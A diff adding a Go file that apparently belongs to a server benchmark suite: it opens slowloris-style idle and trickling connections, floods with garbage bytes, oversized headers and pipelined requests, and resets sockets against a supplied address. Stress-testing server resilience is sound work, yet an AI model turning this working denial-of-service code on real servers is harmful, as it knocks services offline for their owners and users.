@@ -1,0 +1,154 @@
+package attack
+
+import (
+	"bufio"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"strings"
+	"syscall"
+	"time"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/myriad-go/myriad/bench/proc"
+)
+
+// Main is the process.
+func Main() {
+	if err := run(os.Stdin, os.Stdout); err != nil {
+		fmt.Fprintln(os.Stderr, "attack:", err)
+		os.Exit(1)
+	}
+}
+
+func run(in io.Reader, out io.Writer) error {
+	if _, err := proc.RaiseFiles(); err != nil {
+		return err
+	}
+	if err := unix.Setpriority(unix.PRIO_PROCESS, 0, 19); err != nil {
+		return fmt.Errorf("setpriority: %w", err)
+	}
+	lines := bufio.NewReader(in)
+	var spec Spec
+	if err := json.NewDecoder(lines).Decode(&spec); err != nil {
+		return fmt.Errorf("spec: %w", err)
+	}
+	parts, ok := mixes[spec.Kind]
+	if !ok {
+		return fmt.Errorf("there is no attack %q", spec.Kind)
+	}
+	for _, p := range parts {
+		if err := p.begin(spec.Addr); err != nil {
+			return err
+		}
+	}
+	if _, err := fmt.Fprintln(out, "attacking"); err != nil {
+		return err
+	}
+	_, err := io.Copy(io.Discard, lines)
+	return err
+}
+
+// A part is one way to attack: on conns connections that stay, or on rate a second that go.
+type part struct {
+	conns int
+	rate  int
+	first string        // sent at once
+	then  string        // sent then, once each
+	each  time.Duration // 0: never
+	read  int           // bytes read, once each; of one that goes before it is reset
+}
+
+func request(method, path, more string) string {
+	return method + " " + path + " HTTP/1.1\r\nHost: localhost\r\n" + more
+}
+
+var mixes = map[Kind][]part{
+	Slow: {
+		{conns: 500},
+		{conns: 500, first: request("GET", "/", ""), then: "X", each: time.Second},
+		{conns: 500, first: request("POST", Upload, "Content-Length: 1000000\r\n\r\n"), then: "x", each: time.Second},
+		{conns: 500, first: strings.Repeat(request("GET", Large, "\r\n"), 8), read: 1, each: time.Second},
+	},
+	Flood: {
+		{rate: 200},
+		{rate: 100, first: request("GET", Large, "\r\n"), read: 1000},
+		{rate: 100, first: strings.Repeat("\x00\xffgarbage\r\n", 1000)},
+		{rate: 10, first: request("GET", "/", strings.Repeat("A: "+strings.Repeat("x", 8000)+"\r\n", 150))},
+		{conns: 100, first: strings.Repeat(request("GET", "/plaintext", "\r\n"), 1000)},
+		{conns: 100, first: strings.Repeat(request("GET", Large, "\r\n"), 8)},
+	},
+}
+
+// dialer makes connections whose kernel takes little: those who do not read would else be sent megabytes first.
+var dialer = net.Dialer{Control: func(_, _ string, c syscall.RawConn) error {
+	var failed error
+	err := c.Control(func(fd uintptr) { failed = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_RCVBUF, 4<<10) })
+	return errors.Join(err, failed)
+}}
+
+// begin opens the connections that stay, or starts those that go.
+func (p part) begin(addr string) error {
+	for range p.conns {
+		c, err := dialer.Dial("tcp", addr)
+		if err != nil {
+			return err
+		}
+		go p.stay(c)
+	}
+	if p.rate > 0 {
+		go p.come(addr)
+	}
+	return nil
+}
+
+// stay attacks until the server has had enough, and then again.
+func (p part) stay(c net.Conn) {
+	addr := c.RemoteAddr().String()
+	for {
+		p.hold(c)
+		_ = c.Close()
+		var err error
+		for c, err = dialer.Dial("tcp", addr); err != nil; c, err = dialer.Dial("tcp", addr) {
+			time.Sleep(time.Second)
+		}
+	}
+}
+
+// hold returns when the connection has ended.
+func (p part) hold(c net.Conn) {
+	go func() { _, _ = io.WriteString(c, p.first) }() // a server that does not read takes only a part
+	if p.each == 0 {
+		select {} // it neither says nor hears anything any more
+	}
+	one := make([]byte, max(p.read, 1))
+	for range time.Tick(p.each) {
+		if p.read > 0 {
+			if _, err := c.Read(one); err != nil {
+				return
+			}
+		} else if _, err := io.WriteString(c, p.then); err != nil {
+			return
+		}
+	}
+}
+
+func (p part) come(addr string) {
+	for range time.Tick(time.Second / time.Duration(p.rate)) {
+		go func() {
+			c, err := dialer.Dial("tcp", addr)
+			if err != nil {
+				return
+			}
+			_ = c.SetDeadline(time.Now().Add(time.Second))
+			_, _ = io.WriteString(c, p.first)
+			_, _ = io.CopyN(io.Discard, c, int64(p.read))
+			_ = c.(*net.TCPConn).SetLinger(0) // a reset
+			_ = c.Close()
+		}()
+	}
+}
